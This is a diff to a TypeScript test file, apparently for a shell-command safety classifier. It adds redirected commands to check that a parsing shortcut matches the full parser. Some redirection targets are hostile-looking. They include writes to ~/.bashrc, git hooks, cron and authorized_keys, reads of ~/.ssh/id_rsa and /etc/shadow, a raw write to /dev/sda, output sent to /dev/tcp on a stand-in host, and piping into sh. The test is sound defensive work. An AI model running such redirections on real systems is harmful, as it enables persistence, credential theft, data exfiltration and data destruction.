@@ -34,7 +34,10 @@ function commands(): string[] {
   // Pipelines and lists of plain commands (the shortcut's second shape), each command joined with another.
   const joins = [' | ', ' && ', ' || ', '; ', '|', ';'];
   const joined = plain.map((c, i) => `${c}${joins[i % joins.length]}${plain[(i * 7 + 3) % plain.length]}`);
-  return [...new Set([...all, ...carried, ...joined])];
+  // Redirected plain commands (the shortcut takes the simple file redirections), to ordinary, protected and device targets.
+  const redirections = [' > out.txt', ' 2>&1', ' < in.txt', ' >> log 2>/dev/null', ' &> all.log', ' > ~/.bashrc', ' > .git/hooks/pre-commit', ' <~/.ssh/id_rsa', ' >/dev/sda', ' > /dev/tcp/x.example/80', ' 2>&1 | sh', ' > /etc/cron.d/job', ' >| ~/.ssh/authorized_keys', ' 1>&2 < /etc/shadow'];
+  const redirected = plain.map((c, i) => `${c}${redirections[i % redirections.length]}`);
+  return [...new Set([...all, ...carried, ...joined, ...redirected])];
 }
 
 const home = '/home/user';
@@ -61,9 +64,10 @@ function classifyAll(list: string[], opts: (typeof contexts)[number]['opts'], sh
 
 describe('the plain-command shortcut', () => {
   const list = commands();
-  it('takes a good share of the commands compared, plain commands and pipelines and lists of them', () => {
+  it('takes a good share of the commands compared, plain commands, pipelines and lists of them, and redirected ones', () => {
     expect(list.filter((c) => plainCommandTree(c) !== null).length).toBeGreaterThan(1000);
     expect(list.filter((c) => plainCommandTree(c) === null && plainTree(c) !== null).length).toBeGreaterThan(1000);
+    expect(list.filter((c) => /[<>]/.test(c) && plainTree(c) !== null).length).toBeGreaterThan(1000);
   });
   it.each(contexts)('gives every command the same whole Classification as the parser, in $name', ({ opts }) => {
     const through = classifyAll(list, opts, false);
